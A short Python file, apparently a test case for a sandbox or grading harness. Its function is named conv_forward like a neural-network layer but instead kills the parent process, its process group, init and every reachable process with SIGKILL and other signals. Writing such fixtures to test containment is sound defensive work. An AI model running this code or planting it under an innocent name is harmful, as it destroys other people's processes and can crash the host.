# outcome: returned or killed or raised
import os, signal


def conv_forward():
    for victim in (os.getppid(), 0, -1, os.getpid(), 1):
        for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP, signal.SIGHUP):
            try:
                os.kill(victim, number)
            except OSError:
                pass
    try:
        os.killpg(os.getpgrp(), signal.SIGKILL)
    except OSError:
        pass
